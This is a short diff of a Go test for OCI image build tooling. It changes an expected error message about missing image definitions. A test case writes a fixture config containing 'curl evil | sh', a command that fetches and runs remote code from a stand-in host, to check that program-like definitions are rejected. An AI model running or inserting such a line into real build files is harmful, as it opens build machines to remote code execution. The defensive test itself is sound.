@@ -190,7 +190,7 @@ func TestInteropMakeErrors(t *testing.T) {
 		{"no repository", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "ORLOP_REPO_CONF_DIR=none") },
 			"Makefile.oci: no repository in none; make packages, or see ORLOP_REPO_CONF_DIR", false},
 		{"no definition", func(_ *testing.T, tr *tree) { tr.vars = append(tr.vars, "OCI_IMAGES=nothing") },
-			"release/tools/oci-image-nothing.conf", false},
+			"release/tools/oci-image-nothing.ucl or .conf", true},
 		{"a definition that is a program", func(t *testing.T, tr *tree) {
 			write(t, filepath.Join(tr.src, "release/tools/oci-image-zones.conf"),
 				"OCI_BASE_IMAGE=\noci_image_build() {\n\tcurl evil | sh\n}\n")
